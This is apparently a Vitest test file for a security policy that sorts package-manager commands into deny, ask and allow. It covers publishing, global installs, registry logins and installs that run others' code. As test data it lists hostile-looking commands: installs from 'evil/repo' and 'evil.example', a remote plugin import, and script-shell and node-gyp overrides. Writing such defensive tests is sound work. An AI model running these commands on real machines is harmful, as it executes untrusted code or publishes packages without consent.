// npm/pnpm/yarn/bun: publishing under every spelling is denied like `npm publish`; global installs,
// adding a package (its install scripts run), `npm link` and registry changes are asked about;
// installing what the lockfile says and running the project's scripts stay allowed.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { npmCommand } from "../../../src/main/security/npm-commands.js";
import type { Verdict } from "../../../src/main/security/index.js";
import { makePolicyFixture, type PolicyFixture } from "./policy-fixture.js";

let fixture: PolicyFixture;
beforeAll(() => {
  fixture = makePolicyFixture();
});
afterAll(() => fixture.cleanup());

type Row = [command: string, verdict: Verdict, reasonIncludes?: string];

const PUBLISH: Row[] = [
  ["npm pub", "deny", "blacklist entry `npm publish`"],
  ["npm publ .", "deny", "blacklist entry `npm publish`"],
  ["npm publish --tag x", "deny", "blacklist entry `npm publish`"],
  ["npm --tag x publish", "deny", "blacklist entry `npm publish`"],
  ["npm -w pkg pub", "deny", "blacklist entry `npm publish`"],
  ["npx npm pub", "deny", "blacklist entry `npm publish`"],
  ["npm unpub pkg@1.0.0", "deny", "blacklist entry `npm unpublish`"],
  ["yarn publish", "deny", "blacklist entry `yarn publish`"],
  ["yarn npm publish", "deny", "blacklist entry `yarn npm publish`"],
  ["yarn workspace pkg publish", "deny", "publishes workspaces"],
  ["yarn workspaces foreach -A npm publish", "deny", "publishes workspaces"],
  ["pnpm publish", "deny", "blacklist entry `pnpm publish`"],
  ["pnpm -r publish", "deny", "blacklist entry `pnpm publish`"],
  ["pnpm --filter web publish", "deny", "blacklist entry `pnpm publish`"],
  ["bun publish", "deny", "blacklist entry `bun publish`"],
];

const GLOBAL: Row[] = [
  ["npm i -g x", "ask", "`npm i -g` changes globally installed packages"],
  ["npm install --global x", "ask", "`npm install --global` changes globally installed packages"],
  ["npm install --location=global x", "ask", "globally installed"],
  ["npm rm -g x", "ask", "`npm rm -g` changes globally installed packages"],
  ["npm uninstall -g x", "ask", "globally installed"],
  ["npm update -g", "ask", "globally installed"],
  ["pnpm add -g x", "ask", "`pnpm add -g` changes globally installed packages"],
  ["yarn global add x", "ask", "`yarn global add` changes globally installed packages"],
  ["yarn global remove x", "ask", "globally installed"],
  ["bun add -g x", "ask", "`bun add -g` changes globally installed packages"],
  ["npm link", "ask", "npm's global folder"],
  ["npm ln some-pkg", "ask", "npm's global folder"],
  ["yarn link", "ask", "global link folder"],
  ["npm owner add bob pkg", "ask", "`npm owner add` changes packages or your account"],
  ["npm dist-tag add pkg@1.0.0 latest", "ask", "registry"],
  ["npm deprecate pkg 'old'", "ask", "`npm deprecate` changes packages"],
];

const RUNS_OTHERS_CODE: Row[] = [
  ["npm i lodash", "ask", "install scripts run"],
  ["npm install -D vitest", "ask", "install scripts run"],
  ["npm i github:evil/repo", "ask", "install scripts run"],
  ["npm install file:..", "ask"],
  ["npm install --registry=https://evil.example lodash", "ask", "another registry"],
  ["pnpm add lodash", "ask", "install scripts run"],
  // pnpm's `-w` is --workspace-root, a flag: `add` after it is the command, not npm's workspace name.
  ["pnpm -w add lodash", "ask", "install scripts run"],
  ["yarn add lodash", "ask", "install scripts run"],
  ["npm explore lodash -- touch x", "ask", "shell command inside an installed package"],
  ["npm init vite", "ask", "starter program"],
  ["npm create vite@latest app", "ask", "starter program"],
  ["yarn create vite", "ask", "starter program"],
  ["pnpm create vite", "ask", "starter program"],
  ["yarn node -e 1", "ask"],
  ["yarn plugin import https://x.example/p.js", "ask"],
  ["npm pkg set scripts.x=touch", "ask", "writes package.json"],
  ["npm conf set script-shell=./x", "deny", "npm config"],
  ["npm con set script-shell=./x", "deny", "npm config"],
  ["npm --node-gyp=./x.sh install", "deny", "changes which programs"],
  ["npm cache clean --force", "ask", "cache folder"],
];

// The package manager itself, its global store and cache, the registry account, patched dependencies, browsers.
const OUTSIDE_THE_PROJECT: Row[] = [
  ["pnpm setup", "ask", "shell's startup files"],
  ["pnpm self-update", "ask", "replaces the pnpm installed on this machine"],
  ["pnpm store prune", "ask", "pnpm's global store"],
  ["pnpm server start", "ask", "store server"],
  ["pnpm env use --global 20", "ask", "Node.js versions"],
  ["pnpm patch-commit node_modules/.patch/x", "ask", "edited copy of a dependency"],
  ["pnpm login", "ask", "your account on the npm registry"],
  ["yarn policies set-version", "ask", "downloads a yarn release"],
  ["yarn npm login", "ask", "credentials yarn keeps for your account"],
  ["yarn npm logout", "ask", "credentials yarn keeps for your account"],
  ["yarn npm tag add pkg@1.0.0 latest", "ask", "changes tags on the npm registry"],
  ["yarn cache clean", "ask", "deletes yarn's cache"],
  ["yarn patch-commit -s /tmp/xfs-123/user", "ask", "edited copy of a dependency"],
  ["npm docs", "ask", "opens a browser or an editor"],
  ["npm bugs lodash", "ask", "opens a browser or an editor"],
  ["npm repo", "ask", "opens a browser or an editor"],
  ["npm edit lodash", "ask", "opens a browser or an editor"],
  ["npm home", "ask", "opens a browser or an editor"],
  ["pnpm docs", "ask", "opens a browser or an editor"],
];

const NEIGHBOURS: Row[] = [
  ["pnpm store status", "allow"],
  ["yarn npm tag list pkg", "allow"],
  ["yarn npm whoami", "allow"],
  ["yarn cache dir", "allow"],
  ["npm install", "allow"],
  ["npm ci", "allow"],
  ["npm init -y", "allow"],
  ["npm pkg get scripts", "allow"],
  ["npm ls -g", "allow"],
  ["npm ls --global --depth=0", "allow"],
  ["yarn global list", "allow"],
  ["npm pack", "allow"],
  ["npm dist-tag ls pkg", "allow"],
  ["npm run publish-docs", "allow"],
  ["yarn workspace web run publish", "allow"],
];

describe("package managers", () => {
  it.each([...PUBLISH, ...GLOBAL, ...RUNS_OTHERS_CODE, ...OUTSIDE_THE_PROJECT, ...NEIGHBOURS])("%j → %s", (command, verdict, reasonIncludes) => {
    const result = fixture.judge(command);
    expect(result.verdict, result.reason).toBe(verdict);
    if (reasonIncludes) expect(result.reason).toContain(reasonIncludes);
  });

  it("keeps denying npm options that really change what runs, but not `--global`", () => {
    expect(fixture.judge("npm i --globalconfig=./x lodash").verdict).toBe("deny");
    expect(fixture.judge("npm i --script-sh=./x lodash").verdict).toBe("deny");
    expect(fixture.judge("npm install --global x").reason).not.toContain("changes which programs");
  });
});

describe("npmCommand", () => {
  it.each([
    ["publish", "publish"],
    ["pub", "publish"],
    ["publis", "publish"],
    ["i", "install"],
    ["isntall", "install"],
    ["add", "install"],
    ["rm", "uninstall"],
    ["unpub", "unpublish"],
    ["ln", "link"],
    ["installTest", "install-test"],
    ["ls", "ls"],
  ])("reads %s as %s", (word, command) => {
    expect(npmCommand(word)).toBe(command);
  });

  it("returns null for ambiguous prefixes and unknown words", () => {
    expect(npmCommand("p")).toBeNull();
    expect(npmCommand("sta")).toBeNull();
    expect(npmCommand("frobnicate")).toBeNull();
    expect(npmCommand("")).toBeNull();
  });
});
